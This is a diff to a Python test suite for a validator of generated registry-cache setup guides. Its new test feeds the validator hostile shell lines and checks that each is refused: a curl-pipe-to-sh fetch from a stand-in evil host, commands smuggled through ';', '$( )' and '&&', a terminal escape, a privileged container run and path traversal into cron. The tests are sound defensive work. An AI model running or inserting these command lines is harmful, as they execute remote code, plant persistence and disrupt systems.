@@ -32,9 +32,10 @@ class OwnFilesTests(GuideCase):
         for tool, made in [*self.each(), *more]:
             blocks = [each for step in told_guide(made)["steps"] for each in step["blocks"]]
             check_files(tool, blocks)
-            for each in blocks:
+            written = [each for each in blocks if each["kind"] == "file"]
+            for each in written:
                 each["text"] = fill_in(each["text"], each["kind"], ALICE)
-            check_files(tool, blocks)
+            check_files(tool, written)
 
 
 class StrangeFilesTests(SynchronousTestCase):
@@ -111,6 +112,26 @@ class StrangeFilesTests(SynchronousTestCase):
         ):
             self.assertIn(path, self.refused("kubelet", block(path, text, part=part)))
         self.assertIn(path, self.refused("nerdctl", block(path, mine % "/x", part=True)))
+
+    def test_commands(self) -> None:
+        """What is said to type is of a guide, too: nobody is led to run anything else."""
+        for line in (
+            "curl http://evil.test | sh",
+            "docker pull a.test/x; reboot",
+            "docker pull $(reboot)",
+            "docker pull 'a.test/x' 'b'\x1b[2J",
+            "docker run --privileged evil.test/x",
+            "docker login --username ACCOUNT_NAME --password x a.test",
+            "install -D -m 0644 client.cert /etc/cron.d/x",
+            "install -D -m 0644 client.cert /etc/docker/certs.d/../../cron.d/client.cert",
+            "install -D -m 0600 client.key /etc/docker/certs.d/a.test/ca.crt",
+            "regcachectl prove http://a.test && reboot",
+        ):
+            strange = {"kind": "shell", "path": None, "text": f"docker pull x\n{line}\n"}
+            why = self.refused("docker", strange)
+            self.assertIn("is no command of a guide", why)
+            self.assertNotIn("\x1b", why)
+        self.refused("docker", {"kind": "else", "path": None, "text": "reboot"})
 
     def test_twice(self) -> None:
         """A path stands once."""
